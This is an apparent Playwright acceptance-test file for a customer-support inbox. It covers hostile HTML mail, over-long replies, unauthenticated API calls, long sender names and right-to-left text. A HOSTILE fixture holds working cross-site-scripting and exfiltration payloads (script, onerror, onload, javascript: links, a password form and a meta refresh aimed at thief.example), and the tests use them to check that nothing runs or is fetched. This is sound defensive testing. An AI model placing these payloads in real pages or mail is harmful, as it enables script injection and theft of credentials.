"""Mails, names and answers that are hostile, huge or in another script, on the page."""

import re
import uuid
from email.message import EmailMessage
from email.utils import formataddr
from typing import Final

import pytest
from playwright.async_api import Page, expect

from events.interaction import InteractionTaken, ReplyHeld
from hub.web.pages.commands import LONGEST
from tests.acceptance.office import Office, answer_field, log_in_again, messages, saved
from tests.acceptance.road import OUR_ADDRESS
from tests.waiting import eventually

pytestmark = pytest.mark.timeout(300)

HOSTILE: Final = """\
<p>Nothing to see</p>
<script>top.document.title = "stolen"; fetch("http://thief.example/1")</script>
<style>@import url("http://thief.example/2");</style>
<style>* { background: url(http://thief.example/3) }</style>
<img src="http://thief.example/4" onerror="top.document.title = 'stolen'">
<form action="http://thief.example/5"><input name="password"><button>Go</button></form>
<svg onload="top.document.title = 'stolen'"><script>alert(1)</script></svg>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<a href="javascript:alert(1)">A link</a>
<a href="data:text/html,<script>alert(1)</script>">Another link</a>
<meta http-equiv="refresh" content="0; url=http://thief.example/6">
<base href="http://thief.example/7">
"""
NEVER_SHOWN: Final = (
    "script, form, input, svg, iframe, object, a[href^='javascript:'], a[href^='data:']"
)
KEPT: Final = 200
"""Characters of a name."""

TOO_LONG: Final = "Too long: 100,000 characters at most. Shorten it."
MEGABYTE: Final = 1024 * 1024


async def test_a_hostile_mail_shows_its_words_and_does_nothing(office: Office) -> None:
    work = office.has(office.sends(html_mail("Hostile <b>subject</b>", HOSTILE)))
    ana = await office.enters("ana")
    fetched, alarms = watched(ana)
    await office.looks_at(ana, work)
    await ana.locator(".conversation").get_by_text("Formatted mail").click()
    mail = ana.frame_locator(".conversation iframe")
    await expect(mail.get_by_text("Nothing to see")).to_be_visible()
    await expect(mail.locator(NEVER_SHOWN)).to_have_count(0)
    await expect(ana.get_by_role("heading", level=1)).to_have_text(work.subject)
    await expect(ana).to_have_title(re.compile(re.escape(work.subject)))
    assert [url for url in fetched if not url.startswith(office.road.url("web"))] == []
    assert alarms == []


def html_mail(subject: str, html: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = f"c{uuid.uuid4().hex[:10]}@customer.example"
    message["To"], message["Subject"] = OUR_ADDRESS, subject
    message["Message-ID"] = f"<{uuid.uuid4()}@customer.example>"
    message.set_content("Nothing to see")
    message.add_alternative(html, subtype="html")
    return message


def watched(page: Page) -> tuple[list[str], list[str]]:
    """What a page has fetched, and the dialogs that opened on it."""
    fetched: list[str] = []
    alarms: list[str] = []
    page.on("requestfinished", lambda request: fetched.append(request.url))
    page.on("dialog", lambda dialog: alarms.append(dialog.message))
    return fetched, alarms


async def test_an_answer_that_is_too_long_is_refused_and_stays(office: Office) -> None:
    # Given: more than anybody writes
    work = office.asked("Tell me all")
    ana = await office.takes("ana", work)
    await pastes(ana, 2 * LONGEST)

    # When: she sends it
    await expect(saved(ana)).to_have_text(TOO_LONG)
    await ana.keyboard.press("Control+Enter")

    # Then: she is told, nothing leaves, and it is all there
    await expect(answer_field(ana)).to_have_js_property("validationMessage", TOO_LONG)
    assert len(await answer_field(ana).input_value()) == 2 * LONGEST
    assert office.recorded(work, ReplyHeld) == 0

    # And: shortened it leaves
    await answer_field(ana).fill("All in all: yes.")
    await expect(saved(ana)).to_have_text("Draft saved")
    await ana.keyboard.press("Control+Enter")
    await expect(messages(ana, "All in all: yes.")).to_have_count(1)


async def pastes(page: Page, length: int) -> None:
    """Paste into the answer, as a clipboard would."""
    await answer_field(page).focus()
    paste = "length => document.execCommand('insertText', false, 'x'.repeat(length))"
    await page.evaluate(paste, length)


async def test_the_api_refuses_what_is_too_long_or_from_nobody(office: Office) -> None:
    work = office.asked("By program")
    ana = await office.takes("ana", work)
    url = f"{office.road.url('web')}/api/v1/interactions/{work.key}"
    token = await ana.locator("#composer [name=csrf]").input_value()
    for length, status in ((LONGEST + 1, 422), (10 * MEGABYTE, 413)):
        answer = await ana.request.post(
            f"{url}/reply",
            data={"text": "x" * length, "request": str(uuid.uuid4())},
            headers={"X-CSRF-Token": token},
        )
        assert answer.status == status
        assert (await answer.json())["error"]["message"]
    office.end_sessions("ana")
    nobody = await ana.request.post(f"{url}/close", data={"disposition": "duplicate"})
    assert nobody.status == 401
    assert (await nobody.json())["error"]["code"] == "not_logged_in"
    assert office.recorded(work, ReplyHeld) == 0


async def test_a_name_of_500_letters_leaves_the_pages_in_shape(office: Office) -> None:
    name = "Wolfeschlegelsteinhausenbergerdorff" * 15
    address = f"c{uuid.uuid4().hex[:10]}@customer.example"
    work = office.has(office.mails(formataddr((name[:500], address)), "A long name."))
    ana = await office.enters("ana")
    await expect(ana.locator(".list .row", has_text=name[:KEPT])).to_be_visible()
    assert await fits(ana)
    await office.looks_at(ana, work)
    await expect(ana.locator("#side")).to_contain_text(name[:KEPT])
    assert await fits(ana)
    await ana.set_viewport_size({"width": 390, "height": 844})
    assert await fits(ana)


async def fits(page: Page) -> bool:
    """Whether nothing sticks out to the side."""
    wide = (
        "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
    )
    return bool(await page.evaluate(wide))


async def test_other_scripts_and_signs_come_and_go_as_they_were(
    office: Office,
) -> None:
    asked = "أين طلبي رقم 20422؟ 🙏🏽"
    told = "נשלח הבוקר 📦 👩‍👩‍👧‍👦 Z̧̈ 👍"
    work = office.asked("طلب متأخر 😟", asked)
    ana = await office.takes("ana", work)
    said = messages(ana, "20422").locator(".text")
    await expect(said).to_have_text(asked)
    await expect(said).to_have_css("direction", "rtl")
    await expect(ana.get_by_role("heading", level=1)).to_have_css("direction", "rtl")
    await answer_field(ana).fill(told)
    await ana.keyboard.press("Control+Enter")
    await expect(messages(ana, told).locator(".text")).to_have_css("direction", "rtl")
    eventually(lambda: office.received(work), "the answer arrives")
    assert office.received(work) == [told]


async def test_who_is_logged_out_meanwhile_comes_back_to_the_same_work(
    office: Office,
) -> None:
    work = office.asked("Out of time")
    ana = await office.opens("ana", work)
    office.end_sessions("ana")
    await ana.get_by_role("button", name="Take").click()
    await log_in_again(ana, "ana")
    await expect(ana.get_by_role("heading", name=work.subject)).to_be_visible()
    assert office.recorded(work, InteractionTaken) == 0
    await ana.get_by_role("button", name="Take").click()
    await expect(answer_field(ana)).to_be_visible()
    assert office.recorded(work, InteractionTaken) == 1
